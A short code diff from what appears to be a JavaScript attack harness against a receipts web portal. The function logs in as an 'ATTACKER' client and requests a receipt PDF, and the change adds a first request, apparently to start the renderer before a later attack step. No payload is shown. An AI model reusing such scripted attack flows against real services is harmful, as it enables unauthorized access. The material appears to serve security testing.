@@ -103,7 +103,11 @@ async function buy(
   const form = { 'content-type': 'application/x-www-form-urlencoded' };
   const entered = await send(target, ATTACKER, `${portal}/enter`, `token=${token}`, form);
   if (entered.cookie === null) throw new Error(entered.text);
-  return { receiptPath: `${portal}/receipts/${payments[0].id}/pdf`, buyerCookie: entered.cookie };
+  const receiptPath = `${portal}/receipts/${payments[0].id}/pdf`;
+  // The first one starts the thread that makes them, with its fonts.
+  const { status } = await send(target, ATTACKER, receiptPath, null, { cookie: entered.cookie });
+  if (status !== 200) throw new Error(`The receipt was answered with ${status}`);
+  return { receiptPath, buyerCookie: entered.cookie };
 }
 
 /** The answer's data. Throws if the call was refused. */
